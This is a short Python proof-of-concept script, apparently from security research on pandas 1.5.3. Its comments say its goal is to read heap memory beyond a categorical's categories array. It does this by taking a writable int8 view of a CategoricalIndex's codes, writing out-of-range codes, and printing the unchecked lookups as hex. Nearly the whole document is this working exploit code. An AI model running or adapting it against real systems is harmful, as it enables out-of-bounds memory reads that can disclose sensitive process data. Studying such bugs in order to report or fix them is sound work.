# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray.view (inherited by Categorical) returns self._ndarray.view(dtype): a writable view of the codes that Categorical.codes hands out read-only; take_nd (pandas/_libs/algos_take_helper) then indexes the categories with them unchecked
# family: writable view of Categorical codes via CategoricalIndex.view(dtype) (Index.view -> self._data.view)
# goal: read heap memory beyond the categories array through the index's values
import numpy as np
import pandas as pd

ci = pd.CategoricalIndex([1, 2, 3], categories=[1, 2, 3])
w = ci.view("int8")
w[0] = 100
w[1] = -20
print(ci.to_numpy())
print([hex(int(v)) for v in ci.to_numpy()])
